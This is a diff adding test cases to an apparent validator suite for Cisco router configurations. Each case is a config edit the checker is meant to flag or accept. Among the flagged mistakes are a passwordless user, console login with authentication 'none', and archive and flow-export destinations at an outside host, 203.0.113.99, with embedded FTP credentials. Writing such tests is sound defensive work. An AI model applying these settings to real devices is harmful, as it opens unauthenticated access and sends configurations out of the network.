@@ -129,6 +129,29 @@ MISTAKES: list[Mistake] = [
     ("feed_has_its_hosts", LEEDS, "SNMP-FEED\n 10 permit 10.10.2.50", "SNMP-FEED\n 10 permit 10.10.2.51", "WV-13"),
     ("feed_has_its_hosts", LEEDS, "SNMP-FEED\n", "SNMP-FEED\n 5 permit 10.10.2.51\n 6 permit 10.10.2.52\n", "WV-13"),
     ("feed_has_its_hosts", LEEDS, "SNMP-FEED\n 10 permit 10.10.2.50\n", "SNMP-FEED\n 10 permit any\n", "WV-13"),
+    ("logins_may_manage", LEEDS, "username spokesman privilege 15 ", "username spokesman ", "WV-7"),
+    ("logins_may_manage", LEEDS, "\nusername ", "\nusername spokesman autocommand show version\nusername ", "WV-7"),
+    ("logins_may_manage", LEEDS, "aaa authorization exec default local\n", "", "WV-7"),
+    ("logins_may_manage", LEEDS, "line vty 0 4\n", "line vty 0 4\n no exec\n", "WV-7"),
+    ("logins_may_manage", LEEDS, "line vty 0 4\n", "line vty 0 4\n autocommand exit\n", "WV-7"),
+    ("logins_may_manage", LEEDS, " exec-timeout 15 0\n transport", " exec-timeout 0 1\n transport", "WV-7"),
+    ("nobody_is_let_in_unproved", LEEDS, "\nusername ", "\nusername spokesman nopassword\nusername ", "WV-7"),
+    (
+        "nobody_is_let_in_unproved",
+        LEEDS,
+        "line con 0\n",
+        "aaa authentication login CON none\nline con 0\n login authentication CON\n",
+        "WV-7",
+    ),
+    ("references_are_defined", LEEDS, "line vty 0 4\n", "line vty 0 4\n login authentication VTY\n", "WV-6"),
+    ("data_goes_to_the_centre", LEEDS, " path flash:archive-", " path ftp://tech:planted@203.0.113.99/a-", "WV-7"),
+    (
+        "data_goes_to_the_centre",
+        LEEDS,
+        "\nline con 0\n",
+        "\nflow exporter OLD\n destination 203.0.113.99\nline con 0\n",
+        "WV-7",
+    ),
     ("feed_has_its_hosts", LEEDS, "SNMP-FEED\n", "SNMP-FEED\n 5 deny 10.10.2.0 0.0.0.255\n", "WV-13"),
     ("feed_has_its_hosts", LEEDS, "SNMP-FLEET\n", "SNMP-FLEET\n 5 deny 10.254.255.0 0.0.0.255\n", "WV-13"),
     (
@@ -332,6 +355,13 @@ CERTIFIED: list[Mistake] = [
 #: The same of a customer that ordered every option.
 OPTIONS: list[Mistake] = [
     (
+        "firewall_logs_are_no_notifications",
+        LONDON,
+        "snmp-server enable traps config\n",
+        "snmp-server enable traps syslog\nlogging history informational\n",
+        "WV-17",
+    ),
+    (
         "others_networks_are_left_to_them",
         LONDON,
         "  network 10.20.1.0 mask",
@@ -481,6 +511,9 @@ HARMLESS: list[tuple[str, str, str, str]] = [
     ("certificates", AUSTIN, "co ou = initech.vpn", "co ou = initech.vpn\n issuer-name co cn"),
     ("certificates", AUSTIN, " identity local dn\n", ""),
     ("two_vpns", LEEDS, "\nusername ", "\nusername guest secret 9 $9$a$b\nusername "),
+    ("two_vpns", LEEDS, " path flash:archive-", " path scp://10.254.255.60/archive-"),
+    ("two_vpns", LEEDS, "line con 0\n", "line con 0\n login authentication default\n"),
+    ("two_vpns", LEEDS, "snmp-server enable traps config\n", "snmp-server enable traps syslog\n"),
     ("options_iosxe", LONDON, "shape average 95000000", "shape average percent 95"),
     ("options_iosxe", LEEDS, " standby 10 preempt", " standby 10 timers 1 3\n standby 10 preempt"),
     ("options_iosxe", LEEDS, " standby 10 preempt", " standby 10 timers msec 250 msec 750\n standby 10 preempt"),
